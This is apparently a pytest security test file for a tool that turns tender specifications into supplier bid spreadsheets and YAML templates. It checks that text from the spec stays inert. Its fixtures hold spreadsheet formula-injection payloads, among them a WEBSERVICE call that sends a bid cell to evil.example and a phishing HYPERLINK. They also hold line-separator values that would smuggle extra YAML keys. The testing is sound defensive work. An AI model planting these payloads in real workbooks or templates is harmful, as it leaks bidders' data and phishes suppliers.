"""Spec text is plain text in the bid templates suppliers open (issue 8, item 9).

A title or guidance starting with `=` must not become a live formula in the spreadsheet, and no
line separator in a title may add keys to the YAML template.
"""

from __future__ import annotations

import dataclasses
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

import svspec
from svspec import model
from svspec.bids.document import parse_yaml
from svspec.bids.layout import COMPUTED_COLUMNS, SECTION_SHEETS, column_letter
from svspec.emit.templates import yaml_template
from svspec.emit.xlsx import workbook_bytes

WEBSERVICE = '=WEBSERVICE("https://evil.example/?leak="&Bid!B3)'
HYPERLINK = '=HYPERLINK("https://evil.example/phish","Click to submit")'

_QUOTED = WEBSERVICE.replace('"', '\\"')
FRAMEWORK = f'''framework f "Framework"
  version 1
  theme people "People"
    outcome work "Work"
      measure M1 "{_QUOTED}"
        guidance: {HYPERLINK}
        unit hours
        answer number at least 0
        scored linear from 0 hours to 100 hours
      measure M2 "@SUM(1,2)"
        guidance: +SUM(1,2)
        answer choice "=1+1", "#N/A", "-2+3"
        scored by evaluators on scale plain
  scale plain "Plain scale"
    10 "Good"
    0 "Poor"
'''

TENDER = '''tender t "=HYPERLINK(\\"https://evil.example\\")"
  uses f 1 from "f.svspec"
  contract value £1,000,000 over 2 years
  summary: =WEBSERVICE("https://evil.example/summary")
  criteria
    social value 100%
  social value measures
    M1 weight 50%
    M2 weight 50%
'''


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> model.Tender:
    folder = tmp_path_factory.mktemp("hostile-template")
    (folder / "svspec.toml").write_text("", encoding="utf-8")
    (folder / "f.svspec").write_text(FRAMEWORK, encoding="utf-8")
    (folder / "t.svspec").write_text(TENDER, encoding="utf-8")
    result = svspec.load(folder / "t.svspec")
    assert result.ok and isinstance(result.model, model.Tender), [d.message for d in result.errors]
    return result.model


def _workbook(tender: model.Tender, tmp_path: Path) -> openpyxl.Workbook:
    path = tmp_path / "template.xlsx"
    path.write_bytes(workbook_bytes(tender))
    return openpyxl.load_workbook(path)


def test_titles_guidance_and_choices_starting_with_formula_characters_are_text_cells(
        hostile: model.Tender, tmp_path: Path) -> None:
    wb = _workbook(hostile, tmp_path)
    cells = [cell for sheet in wb.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "e"], "no error cells"
    computed = {column_letter(c) for c in COMPUTED_COLUMNS}
    formulas = [c for c in cells if c.data_type == "f"]
    assert formulas, "the hostile tender still has computed words, values or points"
    assert not [c.coordinate for c in formulas if c.column_letter not in computed or
                c.parent.title not in SECTION_SHEETS.values()], "formulas only in the computed columns"
    for cell in formulas:
        assert _OUR_FORMULA.fullmatch(cell.value), cell.value
        assert set(re.findall(r'"[^"]*"', cell.value)) <= {'" "', '""', '"Yes"'}, cell.value
    texts = {c.value for c in cells}
    for written in (WEBSERVICE, HYPERLINK, "@SUM(1,2)", "+SUM(1,2)", "=1+1", "#N/A", "-2+3"):
        assert written in texts, written
    title = next(c for c in wb["Social value"]["B"] if c.value == WEBSERVICE)
    assert title.quotePrefix, "Excel shows the quote prefix and keeps the text a text when edited"


_OUR_FORMULA = re.compile(r'=[A-Z0-9(),.+\-*/<>=:" ]+')
"""What the template's own formulas are made of: functions, cell references, numbers, and the
strings " ", "" and "Yes"; no text from the spec."""


def test_the_spreadsheet_xml_holds_formula_elements_only_in_the_computed_columns(hostile: model.Tender) -> None:
    with zipfile.ZipFile(io.BytesIO(workbook_bytes(hostile))) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    computed = "".join(column_letter(c) for c in COMPUTED_COLUMNS).encode()
    cells = [cell for xml in sheets for cell in re.findall(rb'<c r="([A-Z]+)\d+"[^>]*>(?:(?!</c>).)*<f[ >]', xml)]
    assert sheets and cells and set(cells) <= {bytes([c]) for c in computed}


def test_characters_a_workbook_cannot_hold_are_shown_as_codes(hostile: model.Tender, tmp_path: Path) -> None:
    odd = dataclasses.replace(hostile, title="Bins\ufffe and \x07 bells\u2028=1+1")
    wb = _workbook(odd, tmp_path)
    assert wb["Instructions"]["A1"].value == "Bid to: Bins\\ufffe and \\u0007 bells\\u2028=1+1"


def test_a_line_separator_in_a_title_cannot_add_keys_to_the_yaml_template(hostile: model.Tender) -> None:
    for separator in ("\u2028", "\u2029", "\x85", "\r", "\v", "\f", "\x1c"):
        odd = dataclasses.replace(hostile, title=f"Bins{separator}bidder: Mallory{separator}price: 1")
        text = yaml_template(odd)
        assert text.splitlines()[0].startswith("# Bid to: Bins bidder: Mallory price: 1")
        data = yaml.safe_load(text)
        assert data["bidder"] == "" and data.get("price") is None, repr(separator)
        document, problems = parse_yaml(text, "template.yaml")
        assert problems == [] and document is not None


def test_a_noncharacter_in_a_title_leaves_the_yaml_template_readable(hostile: model.Tender) -> None:
    odd = dataclasses.replace(hostile, title="Bins\ufffe\uffff")
    text = yaml_template(odd)
    assert "\ufffe" not in text and "Bins\\ufffe\\uffff" in text
    assert yaml.safe_load(text)["tender"] == "t"
